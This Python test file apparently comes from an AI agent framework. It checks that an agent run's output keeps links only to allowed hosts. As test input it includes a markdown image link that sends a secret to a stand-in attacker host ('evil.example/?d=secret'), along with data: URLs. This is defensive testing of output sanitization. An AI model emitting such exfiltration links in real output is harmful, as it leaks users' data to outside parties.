"""The output of a run of our own: what it links to, and who may read it."""

from pathlib import Path

import pytest

from leverframe.testing import say
from tests.unit.test_loops_agent import AGENT_CONTRACT, ended, playing


@pytest.mark.parametrize(
    ("hosts", "said_", "output", "removed"),
    [
        ("[]", "See ![x](https://evil.example/?d=secret) and [it](https://example.com/a).", "See x and it.", 60),
        ("[example.com]", "See [it](https://shop.example.com/a).", "See [it](https://shop.example.com/a).", 0),
        ("[]", "data:text/html,x and https://plain.example", " and https://plain.example", 16),
    ],
)
def test_an_output_links_to_listed_hosts_alone(
    tmp_path: Path, hosts: str, said_: str, output: str, removed: int
) -> None:
    contract = AGENT_CONTRACT + f"context: {{link_hosts: {hosts}}}\n"
    with playing(tmp_path, say(said_), contract=contract) as (desk, _):
        done = ended(desk.start(message="hello"))

        detail = desk.leaves(done.run.run_id, "run.ended")[0]["detail"]
        assert done.output == output
        assert sum(int(one.partition("=")[2]) for one in detail.get("removed", ())) == removed


def test_a_typed_output_is_cleaned_in_each_of_its_texts(tmp_path: Path) -> None:
    typed = AGENT_CONTRACT + "output: {type: object, required: [say], properties: {say: {type: string}}}\n"
    with playing(tmp_path, say('{"say": "go [there](https://evil.example)", "n": 1}'), contract=typed) as (desk, _):
        done = ended(desk.start(message="hello"))

        assert done.output == {"say": "go there", "n": 1}
